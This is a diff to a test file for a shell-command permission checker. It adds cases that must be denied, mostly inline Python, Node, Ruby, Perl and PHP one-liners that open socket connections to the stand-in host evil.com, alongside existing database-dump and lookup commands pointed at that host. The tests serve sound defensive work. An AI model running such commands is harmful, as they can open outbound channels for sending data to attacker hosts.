@@ -280,6 +280,12 @@ describe('option forms and names the readers first missed', () => {
     [`psql "host='evil.com' dbname=x"`, 'deny'], ['psql postgresql://a,evil.com/db', 'deny'], ['psql --host=/tmp,evil.com', 'deny'],
     ['host -p 53 x evil.com', 'deny'], ['ssh-keyscan -f /etc/x', 'deny'], ['dig -f /etc/x', 'deny'], ['redis-cli --rdb /etc/x', 'deny'],
     ['whois --host evil.com x', 'deny'], ['pg_dump -h evil.com db', 'deny'], ["pg_dump -d 'host=evil.com'", 'deny'], ['mysqldump -h evil.com db', 'deny'],
+    // inline code: a host given to a socket call without a URL (was allowed beside Domain(evil.com)).
+    [`python3 -c 'import socket; socket.create_connection(("evil.com", 80))'`, 'deny'], [`python3 -c 'import http.client as h; h.HTTPSConnection("evil.com")'`, 'deny'],
+    [`node -e 'require("net").connect(80, "evil.com")'`, 'deny'], [`node -e 'require("tls").connect({host: "evil.com", port: 443})'`, 'deny'],
+    [`ruby -rsocket -e 'TCPSocket.new("evil.com", 80)'`, 'deny'], [`perl -MIO::Socket::INET -e 'IO::Socket::INET->new("evil.com:80")'`, 'deny'],
+    [`perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "evil.com")'`, 'deny'], [`php -r 'fsockopen("evil.com", 80);'`, 'deny'],
+    ['python3 -m webbrowser evil.com', 'deny'],
     // inline code: blanks before qx's delimiter; a special scheme's URL without `//`.
     [`perl -e 'print qx (rm x)'`, 'deny'], [`node -e 'fetch("https:evil.com")'`, 'deny'], [`node -e 'fetch("https:/evil.com")'`, 'deny'],
     // A URL in code ends at a character no host has (it took that character into the host).
@@ -320,7 +326,8 @@ describe('option forms and names the readers first missed', () => {
   });
   it.each(['make -j$(nproc)', 'make VERSION=$(git describe)', 'make install PREFIX=$HOME/.local', 'docker run --mount type=bind,source="$(pwd)",target=/app img',
     'docker run -v "$HOME/.npm":/root/.npm img', 'docker container run alpine ls -v /etc:/x', 'getopts ab opt "$@"', 'pg_dump mydb', 'psql -h localhost -c "select 1"',
-    "node -e 'fetch(`http://[::1]:8080`)'", "node -e 'fetch(`https://good.com`)'", 'npm i @scope/pkg@1.0.0', 'pip install --proxy proxy.corp:3128 x'])('%s stays allowed', (line) => {
+    "node -e 'fetch(`http://[::1]:8080`)'", "node -e 'fetch(`https://good.com`)'", `python3 -c 'import socket; print(socket.gethostname())'`,
+    `python3 -c 'import socket; socket.create_connection(("github.com", 443))'`, `node -e 'console.log(require("./package.json").version)'`, 'npm i @scope/pkg@1.0.0', 'pip install --proxy proxy.corp:3128 x'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
